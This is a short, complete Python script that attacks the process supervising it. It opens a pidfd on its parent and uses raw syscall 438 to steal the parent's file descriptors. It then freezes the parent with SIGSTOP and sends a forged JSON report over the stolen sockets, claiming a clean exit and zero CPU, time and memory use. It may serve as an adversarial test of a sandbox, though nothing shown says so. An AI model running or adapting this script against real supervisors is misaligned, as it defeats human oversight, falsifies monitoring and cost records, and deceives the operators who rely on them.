#!/usr/bin/env python3
# Takes over the supervisor's socket, stops the supervisor, and forges its report.
import ctypes, os, signal, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
sup = os.getppid()
fds = []
try:
    pidfd = os.pidfd_open(sup)
    fds = [libc.syscall(438, pidfd, fd, 0) for fd in range(32)]
except OSError: pass
report = b'{"Ended":{"end":{"Exited":0},"cost":{"cpu_ms":0,"wall_ms":0,"memory_kib":0,' \
    b'"cpu_source":"counter","memory_source":"proportional"}}}'
for fd in fds:
    if fd >= 0:
        try:
            s = socket.socket(fileno=fd)
            os.kill(sup, signal.SIGSTOP)
            s.send(report)
        except OSError: pass
sys.exit(7)
